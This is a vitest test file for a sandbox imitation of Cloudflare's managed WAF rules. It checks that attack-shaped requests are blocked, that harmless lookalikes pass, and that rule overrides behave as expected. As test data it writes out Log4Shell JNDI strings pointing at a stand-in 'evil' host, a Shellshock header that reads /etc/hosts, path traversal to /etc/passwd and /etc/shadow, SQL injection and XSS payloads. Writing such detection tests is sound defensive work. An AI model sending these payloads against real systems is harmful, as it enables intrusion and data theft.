import { describe, expect, it } from "vitest";
import { managedRulesets } from "../../../sandbox/clouds/cloudflare/managedRulesets";
import { createWaf } from "../../../sandbox/edge/waf";
import { rule, type Sent, sent, worldWith } from "./requests";

const phase = "http_request_firewall_managed";
const whole = "efb7b8c949ac4650a09736fc376e9aee";

const ruled = async (request: Sent, overrides?: object, id = whole) => {
  const execute = rule("managed", {
    action: "execute",
    action_parameters: { id, ...(overrides ? { overrides } : {}) },
  });
  const ruling = await createWaf({ world: worldWith({ [phase]: [execute] }, "pro") }).rule(sent(request, "pro"));
  return { passed: ruling.pass, reason: ruling.steps[0]?.reason ?? "" };
};

const header = (value: string): Sent => ({ headers: [["x", value]] });
const posted = (body: string): Sent => ({ method: "POST", body });

describe("attack shapes", () => {
  it.each<[string, Sent]>([
    ["log4shell-headers", header("${jndi:ldap://evil/a}")],
    ["log4shell-headers", header("${${lower:j}${lower:n}di:rmi://evil/a}")],
    ["log4shell-headers", header("${${::-j}${::-n}${::-d}${::-i}:ldap://evil}")],
    ["log4shell-headers", header("%24%7Bjndi:ldap://evil/a}")],
    ["log4shell-uri", { target: "/?x=%2524%257Bjndi:ldap://evil/a%257D" }],
    ["log4shell-body", posted("x=${JNDI:dns://evil}")],
    ["shellshock", header("() { :;}; /bin/cat /etc/hosts")],
    ["path-traversal", { target: "/../../../etc/passwd" }],
    ["path-traversal", { target: "/files?name=..%2f..%2fetc%2fpasswd" }],
    ["path-traversal", { target: "/x?f=....//....//etc/passwd" }],
    ["path-traversal", { target: "/%252e%252e%252fetc%252fshadow" }],
    ["sql-injection", { target: "/?id=1%20UNION%20SELECT%20password%20FROM%20users" }],
    ["sql-injection", { target: "/?id=1+union/**/all/**/select+1" }],
    ["sql-injection", posted("user=admin' or '1'='1")],
    ["cross-site-scripting", { target: "/?q=%3Cscript%3Ealert(1)%3C/script%3E" }],
    ["cross-site-scripting", posted('<img src=x onerror="alert(1)">')],
  ])("%s: %j", async (attack, request) => {
    expect(await ruled(request)).toEqual({
      passed: false,
      reason: `${phase}: block by managed (Sandbox imitation: ${attack})`,
    });
  });

  it.each<[string, Sent]>([
    ["an ordinary event", posted('{"type":"event_callback","event":{"text":"select a union rep, or 1 of 2"}}')],
    ["a template", posted("Hello ${name}, total: ${sum}")],
    ["words about jndi", header("jndi:ldap explained")],
    ["a path with passwd in it", { target: "/docs/passwd-etc/etc" }],
    ["a function in a header", header("()=>{}")],
    ["a question about scripts", { target: "/?q=script+tag+onload" }],
    ["a body of unknown length", { method: "POST", headers: [["transfer-encoding", "chunked"]] }],
  ])("not %s", async (_, request) => {
    expect(await ruled(request)).toMatchObject({ passed: true });
  });

  it.each([
    ["comments", "union/**/".repeat(8000)],
    ["gaps", `union${"/**/".repeat(20_000)}`],
    ["dot segments", "../".repeat(30_000)],
    ["functions", "() {;".repeat(20_000)],
    ["lookups", "${".repeat(30_000) + "a".repeat(30_000)],
    ["encodings", "%25".repeat(30_000)],
  ])("take no time over hostile text: %s", async (_, text) => {
    const started = performance.now();
    await ruled({ ...posted(text), target: `/?${text.slice(0, 16_000)}`, headers: [["x", text.slice(0, 16_000)]] });
    expect(performance.now() - started).toBeLessThan(2000);
  });
});

describe("overrides", () => {
  const attack = header("${jndi:ldap://evil}");
  const id = "6b1cc72dff9746469d4695a474430f12";
  it.each<[string, object, boolean, string]>([
    ["switch a ruleset off", { enabled: false }, true, ""],
    ["switch a rule off", { rules: [{ id, enabled: false }] }, true, ""],
    ["switch a category off", { categories: [{ category: "cve-2021-44228", enabled: false }] }, true, ""],
    ["leave other categories alone", { categories: [{ category: "sqli", enabled: false }] }, false, "block by managed"],
    ["only log", { action: "log" }, true, "log by managed"],
    ["challenge instead", { rules: [{ id, action: "managed_challenge" }] }, false, "managed_challenge by managed"],
    [
      "of a rule win over those of its ruleset",
      { enabled: false, rules: [{ id, enabled: true }] },
      false,
      "block by managed",
    ],
    [
      "of a rule win over those of its category",
      { categories: [{ category: "cve-2021-44228", action: "log" }], rules: [{ id, action: "block" }] },
      false,
      "block by managed",
    ],
  ])("%s", async (_, overrides, passed, reason) => {
    const answer = await ruled(attack, overrides);
    expect(answer.passed).toBe(passed);
    expect(answer.reason).toContain(reason);
  });

  it("a ruleset knows only its own rules", async () => {
    const sql: Sent = { target: "/?id=1%20UNION%20SELECT%201" };
    expect(await ruled(sql, undefined, "77454fe2d30c4220b5701f6fdfb893ba")).toMatchObject({ passed: true });
    expect(await ruled(sql, undefined, "4814384a9e5d4991b9815dcfc25d2f1f")).toMatchObject({ passed: false });
  });

  it("rules have ids of their own within a ruleset", () => {
    for (const { rules } of managedRulesets) expect(new Set(rules.map((entry) => entry.id)).size).toBe(rules.length);
  });
});
